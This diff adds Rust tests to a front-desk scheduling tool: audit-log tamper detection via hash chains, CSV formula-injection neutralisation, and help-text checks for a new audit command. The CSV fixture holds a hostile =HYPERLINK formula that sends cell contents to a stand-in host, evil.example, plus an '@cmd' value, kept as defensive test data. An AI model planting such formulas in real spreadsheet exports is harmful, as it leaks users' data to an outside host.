@@ -326,13 +326,76 @@ async fn reset_2fa_lets_an_admin_who_lost_their_phone_set_one_up_again() {
 }
 
 #[test]
+fn audit_verify_passes_an_intact_log_and_names_the_first_bad_row() {
+    let dir = tempfile::tempdir().unwrap();
+    let verify = || frontdesk(dir.path(), &["audit", "verify"], None);
+    let none = verify();
+    assert_eq!(none.status.code(), Some(1), "{}", text(&none));
+    assert!(text(&none).contains("no database at"), "{}", text(&none));
+    // Each account added writes one audit row.
+    for name in ["maria", "li", "sam"] {
+        let out = frontdesk(
+            dir.path(),
+            &[
+                "user",
+                "add",
+                name,
+                "--role",
+                "front_desk",
+                "--password-stdin",
+            ],
+            Some("twelve chars ok\n"),
+        );
+        assert!(out.status.success(), "{}", text(&out));
+    }
+    let ok = verify();
+    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok));
+    let said = String::from_utf8_lossy(&ok.stdout).to_string();
+    assert!(
+        said.starts_with("Audit log intact: 3 row(s) checked. Chain head: row 3, hash "),
+        "{said}"
+    );
+
+    let db = rusqlite::Connection::open(dir.path().join("frontdesk.db")).unwrap();
+    db.execute(
+        "UPDATE audit_log SET subject = 'user:mallory' WHERE id = 2",
+        [],
+    )
+    .unwrap();
+    let changed = verify();
+    assert_eq!(changed.status.code(), Some(3), "{}", text(&changed));
+    assert!(
+        text(&changed).contains(
+            "audit log broken: row 2 does not match its hash: it was changed after it was written. \
+             1 row(s) before it verified."
+        ),
+        "{}",
+        text(&changed)
+    );
+    db.execute("DELETE FROM audit_log WHERE id = 2", [])
+        .unwrap();
+    let deleted = verify();
+    assert_eq!(deleted.status.code(), Some(3));
+    assert!(
+        text(&deleted).contains("row 3 does not follow row 1"),
+        "{}",
+        text(&deleted)
+    );
+    db.execute("DELETE FROM audit_log WHERE id = 3", [])
+        .unwrap();
+    let tail = verify();
+    assert_eq!(tail.status.code(), Some(3));
+    assert!(text(&tail).contains("row 3 is missing"), "{}", text(&tail));
+}
+
+#[test]
 fn help_lists_the_commands() {
     let out = std::process::Command::new(BIN)
         .arg("--help")
         .output()
         .unwrap();
     let t = text(&out);
-    for command in ["serve", "demo", "user", "import", "config"] {
+    for command in ["serve", "demo", "user", "import", "audit", "config"] {
         assert!(t.contains(command), "{t}");
     }
 }
@@ -382,6 +445,7 @@ fn each_command_shows_only_its_own_options() {
         &["user", "list"],
         &["user", "reset-2fa"],
         &["import", "appointments"],
+        &["audit", "verify"],
     ] {
         let t = help(command);
         assert!(t.contains("--data-dir") && t.contains("--database"), "{t}");
@@ -467,6 +531,63 @@ fn simulate_then_backtest_reports_kept_rate_and_baselines() {
             r[2].ends_with(":00") && ["0", "5"].contains(&&r[2][15..16]),
             "rounded to 5 minutes: {r:?}"
         );
+    }
+}
+
+#[test]
+fn backtest_quotes_neutralise_formulas_and_keep_times() {
+    let dir = tempfile::tempdir().unwrap();
+    let history = dir.path().join("h.csv");
+    let quotes = dir.path().join("q.csv");
+    std::fs::write(
+        &history,
+        "visit_id,location,provider,visit_type,priority,scheduled_at,arrived_at,seen_at,done_at,outcome\n\
+         \"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\",main,,,,,2024-03-05T09:00:00,2024-03-05T09:20:00,,seen\n\
+         -12,main,,,,,2024-03-05T09:05:00,2024-03-05T09:30:00,,seen\n\
+         @cmd,main,,,,,2024-03-05T09:10:00+01:00,2024-03-05T09:40:00+01:00,,seen\n\
+         a-1,main,,,,,2024-03-05T09:15:00,2024-03-05T09:45:00,,seen\n",
+    )
+    .unwrap();
+    let out = run(&[
+        "backtest",
+        "--visits",
+        history.to_str().unwrap(),
+        "--quotes-out",
+        quotes.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", text(&out));
+    let mut reader = csv::Reader::from_path(&quotes).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
+    assert_eq!(
+        ids,
+        [
+            "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")",
+            "-12",
+            "'@cmd",
+            "a-1"
+        ],
+        "formulas neutralised, a plain number and plain text left alone"
+    );
+    let quoted: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
+    assert_eq!(
+        quoted,
+        [
+            "2024-03-05T09:00:00",
+            "2024-03-05T09:05:00",
+            "2024-03-05T09:10:00+01:00",
+            "2024-03-05T09:15:00"
+        ],
+        "times as written"
+    );
+    for r in &rows {
+        let promised = &r[2];
+        let time = promised.get(..19).unwrap_or_default();
+        assert!(
+            chrono::NaiveDateTime::parse_from_str(time, "%Y-%m-%dT%H:%M:%S").is_ok(),
+            "a time: {promised:?}"
+        );
+        assert!(!promised.starts_with('\''), "{promised:?}");
     }
 }
 
